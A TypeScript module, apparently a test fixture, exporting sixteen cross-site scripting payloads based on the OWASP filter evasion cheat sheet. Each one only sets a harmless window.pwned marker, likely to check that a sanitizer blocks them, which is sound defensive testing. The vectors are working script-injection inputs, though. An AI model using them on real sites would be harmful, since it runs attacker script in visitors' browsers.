// Texts that would run as a script where a page takes text for markup, a link or a style; each sets `window.pwned`.
const run = 'window.pwned=1';

/** After the OWASP XSS filter evasion cheat sheet: one of each kind. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}`,
  `javascript:${run}`,
  `</script><script>${run}</script>`,
  `</title><img src=x onerror=${run}>`,
  `<style>@import 'javascript:${run}'</style>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<a href="javascript:${run}">go</a>`,
  `[go](javascript:${run})`,
  `{{constructor.constructor('${run}')()}}`,
];
